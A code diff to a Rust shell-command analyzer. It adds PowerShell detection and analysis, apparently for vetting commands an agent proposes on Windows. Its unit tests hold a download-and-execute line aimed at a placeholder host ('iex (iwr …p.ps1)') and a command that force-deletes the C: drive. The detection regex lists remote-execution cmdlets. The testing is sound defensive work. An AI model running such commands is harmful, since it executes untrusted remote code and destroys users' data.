@@ -51,6 +51,35 @@ pub fn analyze(text: &str) -> Script {
     analyze_mapped(text, None)
 }
 
+/// Analyse `text` as PowerShell (a command typed at a Windows prompt or proposed by an agent
+/// there): what its cmdlets and native commands run goes through the same pipeline.
+pub fn analyze_powershell(text: &str) -> Script {
+    let mut w = Walker::new(Some(Rc::from(text)));
+    let code = Word::literal(text, (0, text.len()));
+    w.interp_code(
+        crate::interp::Lang::PowerShell,
+        &code,
+        &crate::interp::Inputs::default(),
+    );
+    w.run_deferred();
+    let files = std::mem::take(&mut w.files);
+    let mut script = w.out;
+    script.files = files;
+    script.index_stages();
+    script
+}
+
+/// Does this input look like PowerShell rather than POSIX shell? (`$env:X = "…"`,
+/// `[Convert]::ToBase64String(…)`, `& "C:\…\tool.exe"`, `Get-ChildItem …`, `if (Test-Path x) {…}`.)
+pub fn looks_like_powershell(text: &str) -> bool {
+    static RE: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
+    RE.get_or_init(|| {
+        regex::Regex::new(r#"(?m)^\s*(\$[A-Za-z_]\w*(:\w+)?\s*[+-]?=\s|\[[A-Za-z][\w.]*\]::|&\s*["'$]|&\s+\S+\.(exe|ps1|cmd|bat)\b|(Get|Set|New|Remove|Add|Invoke|Start|Stop|Test|Write|Import|Export|Select|Where|ForEach|Out|Copy|Move|Clear|Enable|Disable|Install|Uninstall|Update|Register|Unregister|Expand|Compress|Resolve|Join|Split|ConvertTo|ConvertFrom|Measure|Sort|Format|Read|Wait|Push|Pop)-[A-Z][A-Za-z]+\b|(if|foreach|while|switch)\s*\([^(]|(iex|irm|iwr|Invoke-Expression)\b|\$PSVersionTable\b|\$ErrorActionPreference\b)"#)
+            .expect("static regex")
+    })
+    .is_match(text)
+}
+
 /// Like [`analyze`] but without tracking shell state (working directory, positional parameters,
 /// arrays, function calls, `IFS`): the baseline the state tracker is tested against.
 pub fn analyze_stateless(text: &str) -> Script {
@@ -61,4 +90,39 @@ pub fn analyze_stateless(text: &str) -> Script {
     let mut script = w.out;
     script.index_stages();
     script
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn powershell_is_told_from_bash() {
+        for ps in [
+            "$env:NODE_ENV = \"production\"; npm run build",
+            "[Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes(\"a\"))",
+            "& \"C:\\Program Files\\Git\\bin\\bash.exe\" -c \"make test\"",
+            "Get-ChildItem -Recurse -Filter *.log | Remove-Item",
+            "if (Test-Path .\\build) { Remove-Item .\\build -Recurse }",
+            "iex (iwr https://x.example/p.ps1)",
+        ] {
+            assert!(looks_like_powershell(ps), "{ps}");
+        }
+        for sh in [
+            "ls -la",
+            "x=1; echo $x",
+            "if [ -f a ]; then rm a; fi",
+            "if (( n > 1 )); then echo; fi",
+            "FOO=bar make",
+            "git commit -m 'Get-ChildItem support'",
+        ] {
+            assert!(!looks_like_powershell(sh), "{sh}");
+        }
+    }
+
+    #[test]
+    fn powershell_analysis_finds_what_it_runs() {
+        let s = analyze_powershell("Remove-Item -Recurse -Force C:\\");
+        assert!(!s.commands.is_empty());
+    }
 }
